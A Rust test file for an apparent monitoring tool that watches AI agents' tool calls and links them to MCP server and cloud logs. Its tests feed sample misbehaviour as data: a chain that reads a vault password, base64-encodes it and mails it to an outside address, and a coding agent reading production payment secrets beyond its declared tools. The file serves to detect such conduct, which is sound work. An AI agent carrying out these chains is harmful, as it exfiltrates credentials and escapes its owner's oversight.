//! Agents: what their tool calls make together, and what else tells of them.

use serde_json::json;

use super::delivery::{
    Api, Records, ToolCall, at, findings, installed, kinds, lines, role, text, trace,
};
use crate::command::Folder;

/// A charter that allows an agent these tools.
fn allow_tools(folder: &Folder, agent: &str, tools: &str) {
    let charter = format!(
        "charter: {agent}\nidentities: [\"agent.id:{agent}\"]\npurpose: Answers questions of customers.\n\
         owner: desk@example.com\ntools: [{tools}]\n"
    );
    let file = folder.write("charter.yaml", charter);
    folder.ok(&["charter", "propose", file.to_str().unwrap()]);
    folder.ok(&["charter", "approve", agent]);
}

/// Calls of an agent, one a minute, in one conversation.
fn calls(agent: &str, tools: &[(&str, serde_json::Value, Option<&str>)]) -> Records {
    let mut records = Records::of("otel.genai");
    for (place, (tool, arguments, error)) in tools.iter().enumerate() {
        let call = ToolCall {
            agent,
            trace: 1,
            tool,
            arguments: arguments.clone(),
            error: *error,
        };
        let minute = i64::try_from(place).unwrap();
        records.span(at(100, 600 + minute), &call);
    }
    records
}

#[test]
fn b2_three_allowed_actions_make_an_unsafe_sequence() {
    let steps = [
        (
            "vault_read",
            json!({ "path": "staging/mail/password" }),
            None,
        ),
        ("base64_encode", json!({ "of": "the answer" }), None),
        ("send_mail", json!({ "to": "eve@example.net" }), None),
    ];
    let folder = installed();
    allow_tools(&folder, "desk-7", "vault_read, base64_encode, send_mail");
    calls("desk-7", &steps).ingest(&folder);
    let found = findings(&folder, "allowed_but_unsafe");
    assert_eq!(
        kinds(&folder).len(),
        found.len(),
        "no call departs by itself"
    );
    let mut found = found.iter();
    let unsafe_together = found.find(|one| one["rule"] == "sequence/secret-encoded-sent");
    let unsafe_together = unsafe_together.unwrap();
    let allowed = lines(&unsafe_together["allowed"]);
    for (tool, ..) in &steps {
        assert!(allowed.contains(tool), "{tool}: {allowed}");
    }
    assert_eq!(unsafe_together["refused"], json!([]));
    assert_eq!(unsafe_together["events"].as_array().unwrap().len(), 3);

    // The same without the encoding, and in another order, is not it.
    for order in [[0, 2, 2], [2, 1, 0]] {
        let other = installed();
        let steps = order.map(|place| steps[place].clone());
        calls("desk-7", &steps).ingest(&other);
        let found = findings(&other, "allowed_but_unsafe");
        let rules: Vec<String> = found.iter().map(|one| text(&one["rule"])).collect();
        assert!(
            !rules.contains(&"sequence/secret-encoded-sent".to_owned()),
            "{rules:?}"
        );
    }
}

#[test]
fn b3_an_execute_tool_span_is_a_tool_call_with_a_hash_and_a_result() {
    let folder = installed();
    let secret = "the plan of the vault";
    let steps = [
        ("read_ticket", json!({ "id": "T-1", "note": secret }), None),
        (
            "read_ticket",
            json!({ "id": "T-1", "note": "another" }),
            None,
        ),
        (
            "close_ticket",
            json!({ "id": "T-1" }),
            Some("permission denied"),
        ),
        ("merge_ticket", json!({ "id": "T-1" }), Some("timeout")),
    ];
    calls("desk-7", &steps).ingest(&folder);
    let sql =
        "SELECT kind, action, operation, outcome, target, tool_arguments FROM events ORDER BY time";
    let events = folder.json(&["query", sql]);
    let told: Vec<_> = events
        .iter()
        .map(|event| {
            assert_eq!(event["kind"], "tool_call");
            (
                text(&event["operation"]),
                text(&event["action"]),
                text(&event["outcome"]),
            )
        })
        .collect();
    let told: Vec<_> = told
        .iter()
        .map(|(a, b, c)| (a.as_str(), b.as_str(), c.as_str()))
        .collect();
    assert_eq!(
        told,
        [
            ("read_ticket", "read", "success"),
            ("read_ticket", "read", "success"),
            ("close_ticket", "write", "denied"),
            ("merge_ticket", "code_change", "failure"),
        ]
    );
    let hash = |event: usize, name: &str| {
        let arguments = events[event]["tool_arguments"].as_array().unwrap().iter();
        let mut named = arguments.filter(|argument| argument["name"] == name);
        text(&named.next().unwrap()["value_hash"])
    };
    assert!(hash(0, "id").len() >= 32 && hash(0, "id").chars().all(|c| c.is_ascii_hexdigit()));
    assert_eq!(hash(0, "id"), hash(1, "id"), "equal values, equal hashes");
    assert_ne!(hash(0, "note"), hash(1, "note"));
    let all = serde_json::to_string(&events).unwrap();
    assert!(!all.contains(secret), "{all}");
}

#[test]
fn b5_a_traceparent_and_an_identity_join_agent_tool_server_and_cloud() {
    let folder = installed();
    let same = "alias,kind,name\nagent.id:desk-7;aws.arn:arn:aws:iam::111122223333:role/desk-7,ai_agent,desk-7\n";
    let same = folder.write("same.csv", same);
    folder.ok(&["identity", "import", same.to_str().unwrap()]);
    let at = |minute: i64| at(100, 600 + minute);
    calls("desk-7", &[("fetch_invoice", json!({ "id": "I-1" }), None)]).ingest(&folder);
    let mut server = Records::of("mcp.message");
    server.push(json!({
        "timestamp": at(1).to_string(), "server": "invoices", "agent_id": "invoice-server",
        "request": { "jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": {
            "name": "fetch_invoice", "arguments": { "id": "I-1" },
            "_meta": { "traceparent": format!("00-{}-00f067aa0ba902b7-01", trace(1)) } } },
        "response": { "jsonrpc": "2.0", "id": 5, "result": { "content": [], "isError": false } },
    }));
    server.ingest(&folder);
    let mut cloud = Records::of("aws.cloudtrail");
    let who = role("desk-7", "ASIAEXAMPLE0000000001", "conv");
    cloud.call(
        at(2),
        &who,
        "s3:GetObject",
        &json!({
        "requestParameters": { "bucketName": "invoices", "key": "I-1.pdf" } }),
    );
    // Somebody else's work of the same minute.
    let other = role("reports", "ASIAEXAMPLE0000000002", "daily");
    cloud.call(
        at(2),
        &other,
        "s3:ListObjects",
        &json!({ "requestParameters": { "bucketName": "reports" } }),
    );
    cloud.ingest(&folder);

    let sessions = folder.json(&["session", "list"]);
    let agent = sessions
        .iter()
        .find(|one| one["planes"] == json!(["agent"]) && one["actor"] == "desk-7");
    let id = text(&agent.unwrap_or_else(|| panic!("{sessions:?}"))["uid"]);
    let api = Api::of(&folder);
    let shown = api.get(&format!("/v1/sessions/{id}"));
    let joins = shown["joins"].as_array().unwrap();
    let bys: Vec<String> = joins.iter().map(|join| text(&join["by"])).collect();
    assert!(bys.contains(&"trace".to_owned()), "{joins:?}");
    assert!(bys.contains(&"identity_network".to_owned()), "{joins:?}");
    let next = api.get(&format!("/v1/sessions/{id}/next"));
    let steps = next["steps"].as_array().unwrap_or_else(|| panic!("{next}"));
    let steps: Vec<_> = steps
        .iter()
        .map(|step| (text(&step["system"]), text(&step["operation"])))
        .collect();
    let steps: Vec<_> = steps
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let expected = [
        ("assistants", "fetch_invoice"),
        ("invoices", "fetch_invoice"),
        ("aws", "s3:GetObject"),
    ];
    assert_eq!(
        steps, expected,
        "one timeline, without the other role's work"
    );
}

#[test]
fn b10_a_coding_agent_at_production_secrets_opens_a_scope_review_with_its_owner() {
    let declared = "alias,kind,owner,declared_tools\nagent.id:coder,ai_agent,platform@example.com,create_ticket;open_pr\n";
    let told = |tool: &str, path: &str| {
        let folder = installed();
        let file = folder.write("declared.csv", declared);
        folder.ok(&["identity", "import", file.to_str().unwrap()]);
        let steps = [
            ("create_ticket", json!({ "title": "Payments fail" }), None),
            ("open_pr", json!({ "branch": "fix" }), None),
            (tool, json!({ "path": path }), None),
        ];
        calls("coder", &steps).ingest(&folder);
        findings(&folder, "scope_departure")
    };
    let departures = told("vault_read", "prod/payments/database");
    assert_eq!(departures.len(), 1, "{departures:?}");
    let departure = &departures[0];
    assert_eq!(departure["severity"], "critical");
    let reasons = lines(&departure["reasons"]);
    assert!(
        reasons.contains("declared: create_ticket, open_pr"),
        "{reasons}"
    );
    assert!(
        reasons.contains("scope review goes to the owner, platform@example.com"),
        "{reasons}"
    );
    let first_step = text(&departure["response"][0]);
    assert!(!first_step.is_empty());
    assert!(told("open_pr", "prod/payments/database").is_empty());
}
